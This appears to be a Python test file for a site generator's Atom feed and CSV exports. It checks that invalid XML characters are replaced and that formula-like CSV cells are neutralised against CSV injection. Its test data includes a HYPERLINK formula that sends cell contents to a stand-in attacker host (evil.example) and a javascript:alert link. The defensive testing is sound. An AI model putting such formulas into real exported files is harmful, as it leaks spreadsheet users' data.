"""Open data stays valid whatever the text: the feed is well-formed XML, spreadsheet formulas in
the CSV are neutralised the way OWASP's CSV-injection guidance says."""

from __future__ import annotations

import csv
import dataclasses
import io
from xml.dom import minidom
from xml.etree import ElementTree

import pytest
from support import record
from unchecked_library import case_studies, catalogue, shipped_taxonomy

from generator.catalogue import Catalogue
from generator.render.exports import atom_feed, library_csv

ATOM = "{http://www.w3.org/2005/Atom}"
NOT_XML = "\ufffe \uffff \x00 \x01 \x08 \ud800"


def feed_of(**fields: str) -> str:
    return atom_feed(catalogue({"kent-control": record(**fields)}), "https://casebook.example/", "Casebook")


def test_characters_xml_cannot_hold_become_replacement_characters_and_the_feed_stays_well_formed() -> None:
    text = feed_of(title=f"Kent {NOT_XML} control", summary=f"Moved {NOT_XML} [moved](javascript:alert(1))")
    minidom.parseString(text.encode("utf-8"))  # expat: a real, strict XML parser
    entry = ElementTree.fromstring(text.encode("utf-8")).find(f"{ATOM}entry")
    assert entry is not None
    assert entry.findtext(f"{ATOM}title") == "Kent " + " ".join("\ufffd" * 6) + " control"
    assert entry.findtext(f"{ATOM}summary") == "Moved " + " ".join("\ufffd" * 6) + " [moved](javascript:alert(1))"


def test_characters_xml_allows_are_kept_as_they_are() -> None:
    kept = "Straße \x85 \x80 \t \U0001f6a8 \u202e <b>&amp;"
    entry = ElementTree.fromstring(feed_of(summary=kept).encode("utf-8")).find(f"{ATOM}entry")
    assert entry is not None and entry.findtext(f"{ATOM}summary") == " ".join(kept.split())


def rows(**fields: object) -> list[dict[str, str]]:
    """The CSV rows of one record whose fields are set as given, past the model's single-spacing
    (which would strip a leading tab): the writer must be safe on its own."""
    case_study = dataclasses.replace(case_studies({"kent-control": record()})[0], **fields)
    text = library_csv(Catalogue.published(shipped_taxonomy(), [case_study]), "https://casebook.example/")
    return list(csv.DictReader(io.StringIO(text)))


FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_prefixed_with_a_quote(start: str) -> None:
    row = rows(title=start + FORMULA[1:], summary=f"{start}1+2 in a summary", areas=(f"{start}Kent",))[0]
    assert row["title"] == "'" + start + FORMULA[1:]
    assert row["areas"].startswith("'")
    assert row["summary"].startswith("'")


def test_the_owasp_example_is_neutralised_and_quoted() -> None:
    text = library_csv(catalogue({"kent-control": record(title=FORMULA)}), "https://casebook.example/")
    assert '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"' in text
    assert next(csv.DictReader(io.StringIO(text)))["title"] == "'" + FORMULA


def test_numbers_stay_numbers_and_ordinary_text_is_untouched() -> None:
    row = rows(title="-5", areas=("Kent", "+44"))[0]
    assert row["title"] == "-5"
    assert row["areas"] == "Kent; +44"
    assert row["slug"] == "kent-control" and row["started"] == "2012-03"
